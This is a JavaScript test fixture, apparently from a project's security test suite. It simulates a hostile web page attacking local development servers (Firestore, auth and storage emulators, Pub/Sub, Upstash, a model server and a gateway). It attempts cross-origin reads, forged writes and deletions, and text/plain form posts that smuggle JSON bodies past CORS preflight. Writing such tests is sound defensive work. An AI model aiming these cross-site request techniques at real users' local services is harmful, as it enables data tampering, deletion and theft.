// Attacks by a web page on servers of the machine that shows it. Tests load this text in pages; it is not part of the product.

/**
 * Reads and writes in all ways that a page has: with and without preflights, by forms, beacons, images, scripts, sockets and event streams.
 * `targets`: origins of servers by name. `upstashToken`: the token of Upstash's emulator, as if it had leaked. Resolves with everything
 * that the page could read or detect.
 */
globalThis.attack = async ({ targets, upstashToken }) => {
  const documents = `${targets.firestore}/v1/projects/demo-mekuri/databases/(default)/documents`;
  const channel = `${targets.firestore}/google.firestore.v1.Firestore`;
  const fields = '{"fields":{"n":{"integerValue":"666"}}}';
  const name = "projects/demo-mekuri/databases/(default)/documents/a/evil";
  const wanted = '{"name":"evil"}';
  const generate = '{"contents":[{"role":"user","parts":[{"text":"evil"}]}]}';
  const publish = '{"messages":[{"data":"ZXZpbA=="}]}';
  const listen = `{"database":"projects/demo-mekuri/databases/(default)","addTarget":{"documents":{"documents":["${name.replace("evil", "one")}"]},"targetId":2}}`;
  const handshake = (message) =>
    new URLSearchParams({
      headers: "authorization:Bearer owner\r\ncontent-type:text/plain\r\n",
      ...{ count: "1", ofs: "0", req0___data__: message },
    }).toString();
  const reads = [
    `${documents}/a/one`,
    `${targets.firestore}/`,
    `${targets.auth}/`,
    `${targets.storage}/storage/v1/b?project=demo-mekuri`,
    `${targets.storage}/storage/v1/b/books/o/picture?alt=media`,
    `${targets.pubsub}/v1/projects/demo-mekuri/topics/work`,
    `${targets.upstash}/get/kept?_token=${upstashToken}`,
    `${targets.models}/counts`,
    `${targets.gateway}/api/v1/capabilities`,
    `${targets.gateway}/`,
  ];
  const writes = [
    ["POST", `${documents}/a?documentId=evil`, fields],
    ["PATCH", `${documents}/a/one`, fields],
    ["DELETE", `${documents}/a/one`, ""],
    ["POST", `${documents}:commit`, `{"writes":[{"update":{"name":"${name}","fields":{}}}]}`],
    ["POST", `${channel}/Listen/channel?VER=8&RID=1&CVER=22`, handshake(listen)],
    ["DELETE", `${targets.firestore}/emulator/v1/projects/demo-mekuri/databases/(default)/documents`, ""],
    ["POST", `${targets.auth}/identitytoolkit.googleapis.com/v1/accounts:signUp?key=any`, "{}"],
    ["DELETE", `${targets.auth}/emulator/v1/projects/demo-mekuri/accounts`, ""],
    ["POST", `${targets.storage}/upload/storage/v1/b/books/o?uploadType=media&name=evil`, "evil"],
    ["DELETE", `${targets.storage}/storage/v1/b/books/o/picture`, ""],
    ["POST", `${targets.storage}/storage/v1/b?project=demo-mekuri`, wanted],
    ["POST", `${targets.pubsub}/v1/projects/demo-mekuri/topics/work:publish`, publish],
    ["POST", `${targets.upstash}/set/evil?_token=${upstashToken}`, "evil"],
    ["POST", `${targets.models}/v1beta/models/text-1:generateContent`, generate],
    ["POST", `${targets.gateway}/api/v1/manga/generate`, "{}"],
  ];
  const seen = [];
  const see = (how, what) => seen.push(`${how} ${what}`);
  const pending = [];
  const patience = 3_000;
  /** Fetches, and reports what the page may read of the answer. */
  const fetching = (how, address, init) =>
    pending.push(
      fetch(address, { ...init, signal: AbortSignal.timeout(patience) }).then(
        async (answer) => {
          if (answer.type !== "opaque") see(how, `${address} ${answer.status} ${await answer.text()}`);
        },
        () => {},
      ),
    );
  /** Embeds an element; a load event reveals that something is there. */
  const embedding = (tag, address) =>
    pending.push(
      new Promise((resolve) => {
        const element = document.createElement(tag);
        element.addEventListener("load", () => resolve(void see(tag, address)));
        element.addEventListener("error", () => resolve());
        if (tag === "link") element.setAttribute("rel", "stylesheet");
        element.setAttribute(tag === "link" ? "href" : "src", address);
        document.body.append(element);
      }),
    );
  const submitting = (address, body) =>
    pending.push(
      new Promise((resolve) => {
        const frame = document.createElement("iframe");
        frame.name = `frame-${Math.random()}`;
        document.body.append(frame);
        const form = document.createElement("form");
        const field = document.createElement("input");
        // A `text/plain` form sends `name=value`, so the equals sign is put inside of a JSON string.
        field.name = body.endsWith("}") ? `${body.slice(0, -1)},"x":"` : body;
        field.value = body.endsWith("}") ? '"}' : "";
        Object.assign(form, { method: "post", enctype: "text/plain", action: address, target: frame.name });
        form.append(field);
        document.body.append(form);
        frame.addEventListener("load", () => resolve());
        form.submit();
      }),
    );
  for (const address of reads) {
    fetching("cors", address, {});
    fetching("cors with credentials", address, { credentials: "include" });
    fetching("owner", address, { headers: { authorization: "Bearer owner" } });
    fetching("no-cors", address, { mode: "no-cors" });
    for (const tag of ["img", "script", "link"]) embedding(tag, address);
    pending.push(
      new Promise((resolve) => {
        const source = new EventSource(address);
        source.addEventListener("open", () => see("events", address));
        source.addEventListener("error", () => resolve(source.close()));
      }),
      new Promise((resolve) => {
        const socket = new WebSocket(address.replace("http", "ws"));
        socket.addEventListener("open", () => see("socket", address));
        socket.addEventListener("close", () => resolve());
      }),
    );
  }
  embedding("img", `${targets.upstash}/set/evil/shown?_token=${upstashToken}`);
  for (const [method, address, body] of writes) {
    const plain = { method, ...(body === "" ? {} : { body }) };
    fetching("cors", address, plain);
    fetching("owner", address, {
      ...plain,
      headers: { authorization: "Bearer owner", "content-type": "application/json" },
    });
    if (method !== "POST") continue;
    fetching("no-cors", address, { ...plain, mode: "no-cors" });
    navigator.sendBeacon(address, body);
    submitting(address, body);
  }
  await Promise.race([Promise.all(pending), new Promise((resolve) => setTimeout(resolve, patience))]);
  return seen;
};
